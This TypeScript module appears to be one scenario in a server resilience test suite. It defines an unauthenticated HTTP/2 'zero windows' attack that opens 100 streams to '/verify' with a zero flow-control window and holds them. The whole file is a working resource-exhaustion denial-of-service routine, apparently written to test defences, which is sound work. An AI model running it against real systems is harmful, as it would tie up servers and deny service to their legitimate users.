import { type Attack, dialHttp2, hold } from '../attack.ts'

/** A hundred streams over HTTP/2 whose window never opens, by a client without a credential. */
export const attack: Attack = {
  name: 'zero windows',
  round: (target) =>
    hold(target, 6, () => {
      const session = dialHttp2(target, false, { settings: { initialWindowSize: 0 } })
      for (let at = 0; at < 100; at++) {
        const stream = session.request({ ':path': '/verify' })
        stream.on('error', () => undefined)
        stream.once('response', () => target.confirm())
      }
      return session
    }),
}
